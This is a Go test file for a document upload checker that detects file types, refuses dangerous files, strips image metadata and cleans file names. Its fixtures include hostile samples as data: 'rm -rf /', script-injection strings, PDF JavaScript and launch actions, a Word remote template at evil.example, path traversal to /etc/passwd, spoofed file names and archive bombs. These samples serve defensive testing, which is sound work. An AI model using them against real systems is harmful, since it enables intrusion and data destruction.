package document

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"strings"
	"testing"
)

// What a file is, its content says; what is not on the list is refused with
// words that say what to do.
func TestExamine(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name    string
		content []byte
		kind    Type
		refused error
	}{
		{"bill.pdf", pdf(""), PDF, nil},
		{"photo.pdf", jpegOf(t), JPEG, nil}, // whatever it is called
		{"scan.PNG", pngOf(t), PNG, nil},
		{"scan.webp", webp("VP8 ", "pixels"), WebP, nil},
		{"note.txt", []byte("Paid £12 for paint.\r\n"), Text, nil},
		{"bank.csv", []byte("date,amount\n2026-01-02,\xa312.00\n"), CSV, nil}, // as older spreadsheets write pounds
		{"accounts.xlsx", office(t, XLSX, nil), XLSX, nil},
		{"letter.docx", office(t, DOCX, nil), DOCX, nil},
		{"accounts.ods", openOffice(t, ODS, nil), ODS, nil},
		{"letter.odt", openOffice(t, ODT, nil), ODT, nil},

		{"nothing.pdf", nil, "", errEmpty},
		{"large.txt", bytes.Repeat([]byte("a"), MostSize+1), "", errTooLarge},
		{"photo.heic", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00"), "", errHEIC},
		{"film.mp4", []byte("\x00\x00\x00\x18ftypisom\x00\x00\x00\x00"), "", errKind},
		{"drawing.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "", errKind},
		{"receipt.pdf", []byte("<!doctype html><script>alert(1)</script>"), "", errKind},
		{"receipt.csv", []byte("a,b\n<script>alert(1)</script>,2\n"), "", errKind},
		{"marked.txt", []byte("\xef\xbb\xbf  <?xml version='1.0'?><svg/>"), "", errKind},
		{"shell.txt", []byte("#!/bin/sh\nrm -rf /\n"), "", errKind},
		{"letter.txt", []byte(`{\rtf1 {\object}}`), "", errKind},
		{"program.pdf", []byte("MZ\x90\x00\x03"), "", errKind},
		{"with nothing.txt", []byte("a\x00b"), "", errKind},
		{"old.xls", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 and so on"), "", errOldOffice},

		{"half.pdf", []byte("%PDF-1.7 and no end"), "", errBroken},
		{"more.pdf", append(pdf(""), "<script>alert(1)</script>"...), "", errBroken},
		{"page.pdf", pdf("<html><script>alert(1)</script>"), "", errProgram},
		{"password.pdf", pdf("/Encrypt 5 0 R"), "", errPassword},
		{"program.pdf", pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "", errProgram},
		{"hidden.pdf", pdf("/S /#4aava#53cript"), "", errProgram},
		{"file.pdf", pdf("/Names << /EmbeddedFiles 3 0 R >>"), "", errProgram},
		{"packed.pdf", pdfPacking(t, "<< /S /Launch /F (calc.exe) >>"), "", errProgram},
		{"well packed.pdf", pdfPacking(t, "<< /Type /Page >>"), PDF, nil},
		{"bomb.pdf", pdfPacking(t, strings.Repeat(" ", mostUnpackedPart+10)), "", errUnpacks},
		{"also a zip.pdf", pdfAndZIP(t), "", errProgram},

		{"cut.jpg", jpegOf(t)[:60], "", errBroken},
		{"cut.png", pngOf(t)[:40], "", errBroken},
		{"huge.png", pngWith(t, "IHDR", append(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, 60_000), 60_000), 8, 2, 0, 0, 0)), "", errHuge},
		{"moves.png", pngWith(t, "acTL", make([]byte, 8)), "", errMoves},
		{"moves.webp", webp("ANIM", "frames"), "", errMoves},
		{"long.webp", []byte("RIFF\xff\xff\xff\x7fWEBPVP8 "), "", errBroken},

		{"macros.xlsm", office(t, XLSX, map[string]string{"xl/vbaProject.bin": "…"}), "", errProgram},
		{"macros.docx", office(t, "application/vnd.ms-word.document.macroEnabled", nil), "", errProgram},
		{"inside.docx", office(t, DOCX, map[string]string{"word/embeddings/oleObject1.bin": "…"}), "", errProgram},
		{"fetches.docx", office(t, DOCX, map[string]string{"word/_rels/settings.xml.rels": `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>`}), "", errProgram},
		{"links.docx", office(t, DOCX, map[string]string{"word/_rels/document.xml.rels": `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://shop.example" TargetMode="External"/></Relationships>`}), DOCX, nil},
		{"entities.xlsx", office(t, XLSX, map[string]string{"_rels/.rels": `<!DOCTYPE x [<!ENTITY a "aaaa">]><Relationships>&a;</Relationships>`}), "", errBroken},
		{"bomb.xlsx", office(t, XLSX, map[string]string{"xl/worksheets/sheet1.xml": strings.Repeat(" ", 20<<20)}), "", errUnpacks},
		{"many.xlsx", office(t, XLSX, many(mostEntries+1)), "", errUnpacks},
		{"climbs.xlsx", office(t, XLSX, map[string]string{"../../etc/passwd": "x"}), "", errBroken},
		{"archive.zip", office(t, "", map[string]string{"readme.txt": "hello"}), "", errKind},
		{"macros.ods", openOffice(t, ODS, map[string]string{"Basic/Standard/Module1.xml": "…"}), "", errProgram},
		{"password.odt", openOffice(t, ODT, map[string]string{"META-INF/manifest.xml": `<manifest:encryption-data/>`}), "", errPassword},
		{"cut.xlsx", office(t, XLSX, nil)[:120], "", errBroken},
	} {
		f, err := Examine(Sent{Name: test.name, Content: test.content})
		if !errors.Is(err, test.refused) || f.Type != test.kind && err == nil {
			t.Errorf("%s: got %q, %v; want %q, %v", test.name, f.Type, err, test.kind, test.refused)
		}
	}
}

// A picture leaves without what it tells of place, time and camera, the right
// way up, and as the same picture.
func TestPicturesTellNothingBesides(t *testing.T) {
	t.Parallel()
	const secret = "51.5074N 0.1278W iPhone of Ann"
	plain := jpegOf(t)
	exif := "Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x02\x01\x0f\x00\x02\x00\x00\x00\x04abc\x00\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06\x00\x00\x00\x00\x00\x00" + secret
	var told bytes.Buffer
	told.Write(plain[:2])
	for marker, words := range map[byte]string{0xe1: exif, 0xed: "Photoshop 3.0\x00" + secret, 0xfe: secret} {
		told.Write([]byte{0xff, marker, byte((len(words) + 2) >> 8), byte(len(words) + 2)})
		told.WriteString(words)
	}
	told.Write(plain[2:])
	told.WriteString("PK\x03\x04 " + secret) // and something behind its end
	f, err := Examine(Sent{Name: "photo.jpg", Content: told.Bytes()})
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(f.Content, []byte("iPhone")) || bytes.Contains(f.Content, []byte("abc")) || !bytes.HasSuffix(f.Content, []byte{0xff, 0xd9}) {
		t.Errorf("the JPEG still tells: %q", f.Content)
	}
	if _, err := jpeg.Decode(bytes.NewReader(f.Content)); err != nil {
		t.Errorf("the JPEG is no longer a picture: %v", err)
	}
	if i := bytes.Index(f.Content, []byte("Exif\x00\x00")); i < 0 || orientation(f.Content[i:]) != 6 {
		t.Error("it no longer says which way up it is")
	}
	again, err := Examine(Sent{Name: "copy.jpg", Content: f.Content})
	if err != nil || again.Hash != f.Hash {
		t.Errorf("cleaned twice: %v, %s and %s", err, again.Hash, f.Hash)
	}

	f, err = Examine(Sent{Name: "scan.png", Content: append(pngWith(t, "tEXt", []byte("Author\x00"+secret)), secret...)})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := png.Decode(bytes.NewReader(f.Content)); err != nil || bytes.Contains(f.Content, []byte("iPhone")) {
		t.Errorf("the PNG: %v, %q", err, f.Content)
	}

	f, err = Examine(Sent{Name: "scan.webp", Content: webp("VP8X", "\x0c\x00\x00\x00\x07\x00\x00\x07\x00\x00", "VP8 ", "pixels", "EXIF", secret, "XMP ", secret)})
	if err != nil || bytes.Contains(f.Content, []byte("iPhone")) || f.Content[20] != 0 || int(binary.LittleEndian.Uint32(f.Content[4:]))+8 != len(f.Content) {
		t.Errorf("the WebP: %v, %q", err, f.Content)
	}
}

func TestNames(t *testing.T) {
	t.Parallel()
	for sent, want := range map[string]string{
		"Bill 12.PDF":                            "Bill 12.pdf",
		`C:\Users\ann\bill.pdf`:                  "bill.pdf",
		"../../etc/passwd":                       "passwd.pdf",
		"<svg onload=alert(1)>.svg":              "_svg onload=alert(1)_.pdf",
		"invoice.pdf.exe":                        "invoice.pdf.pdf",
		"=HYPERLINK(x)":                          "HYPERLINK(x).pdf",
		"":                                       "File.pdf",
		"...":                                    "File.pdf",
		"bill\u202efdp.exe":                      "billfdp.pdf",
		"two\r\nlines\x00.pdf":                   "two lines.pdf",
		"Rechnung für Müller.pdf":                "Rechnung für Müller.pdf",
		strings.Repeat("a", 300) + ".pdf":        strings.Repeat("a", 90) + "…aaaa.pdf",
		"bad \xff\xfe bytes.pdf":                 "bad bytes.pdf",
		`a";filename="b.html`:                    "a__filename=_b.pdf",
		"St. Mary's hall, 2.50 for tea and cake": "St. Mary's hall, 2.50 for tea and cake.pdf",
	} {
		if got := cleanName(sent, PDF); got != want {
			t.Errorf("%q: got %q, want %q", sent, got, want)
		}
	}
}

// However it is broken, a file is taken or refused, and nothing else.
func FuzzExamine(f *testing.F) {
	f.Add([]byte("%PDF-1.4 %%EOF"))
	f.Add([]byte("\xff\xd8\xff\xe1\x00\x08Exif\x00\x00"))
	f.Add([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"))
	f.Add([]byte("RIFF\x10\x00\x00\x00WEBPVP8X"))
	f.Add([]byte("PK\x03\x04"))
	f.Fuzz(func(t *testing.T, b []byte) {
		file, err := Examine(Sent{Name: "x", Content: b})
		if _, refused := errors.AsType[Refusal](err); err != nil && !refused {
			t.Errorf("an error that is no refusal: %v", err)
		}
		if err == nil && (file.Type == "" || len(file.Content) == 0 || len(file.Hash) != 64) {
			t.Errorf("taken, but not whole: %+v", file)
		}
	})
}

func pdf(inside string) []byte {
	return []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog " + inside + " >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n")
}

func pdfPacking(t *testing.T, objects string) []byte {
	t.Helper()
	var packed bytes.Buffer
	z := zlib.NewWriter(&packed)
	if _, err := io.WriteString(z, objects); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return []byte("%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + packed.String() + "\nendstream\nendobj\nstartxref\n0\n%%EOF\n")
}

func pdfAndZIP(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	z.SetOffset(int64(len(pdf(""))))
	if err := errors.Join(z.SetComment("%%EOF"), z.Close()); err != nil {
		t.Fatal(err)
	}
	return append(pdf(""), b.Bytes()...)
}

func picture() image.Image {
	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
	for i := range 16 {
		img.Set(i, i, color.RGBA{200, 30, 60, 255})
	}
	return img
}

func jpegOf(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, picture(), nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func pngOf(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, picture()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// pngWith is a PNG with a further chunk after its first, or another first.
func pngWith(t *testing.T, kind string, content []byte) []byte {
	t.Helper()
	whole := pngOf(t)
	chunk := append(binary.BigEndian.AppendUint32(nil, uint32(len(content))), kind...)
	chunk = append(chunk, content...)
	chunk = binary.BigEndian.AppendUint32(chunk, crc32.ChecksumIEEE(chunk[4:]))
	const head = 8 + 25
	begin := whole[:head]
	if kind == "IHDR" {
		begin = whole[:8]
	}
	return bytes.Join([][]byte{begin, chunk, whole[head:]}, nil)
}

func webp(chunks ...string) []byte {
	var b bytes.Buffer
	for i := 0; i < len(chunks); i += 2 {
		b.WriteString(chunks[i])
		b.Write(binary.LittleEndian.AppendUint32(nil, uint32(len(chunks[i+1]))))
		b.WriteString(chunks[i+1])
		if len(chunks[i+1])%2 == 1 {
			b.WriteByte(0)
		}
	}
	head := append([]byte("RIFF"), binary.LittleEndian.AppendUint32(nil, uint32(b.Len()+4))...)
	return append(append(head, "WEBP"...), b.Bytes()...)
}

func zipped(t *testing.T, first string, entries ...map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	add := func(h *zip.FileHeader, text string) {
		w, err := z.CreateHeader(h)
		if err == nil {
			_, err = io.WriteString(w, text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if first != "" {
		add(&zip.FileHeader{Name: "mimetype", Method: zip.Store}, first)
	}
	for _, some := range entries {
		for name, text := range some {
			add(&zip.FileHeader{Name: name, Method: zip.Deflate}, text)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func office(t *testing.T, kind Type, more map[string]string) []byte {
	t.Helper()
	var list map[string]string
	if kind != "" {
		list = map[string]string{"[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/main.xml" ContentType="` + string(kind) + `.main+xml"/></Types>`}
	}
	return zipped(t, "", list, more)
}

func openOffice(t *testing.T, kind Type, more map[string]string) []byte {
	t.Helper()
	return zipped(t, string(kind), map[string]string{"content.xml": "<x/>"}, more)
}

func many(n int) map[string]string {
	all := map[string]string{}
	for i := range n {
		all[fmt.Sprintf("xl/%d.xml", i)] = "x"
	}
	return all
}
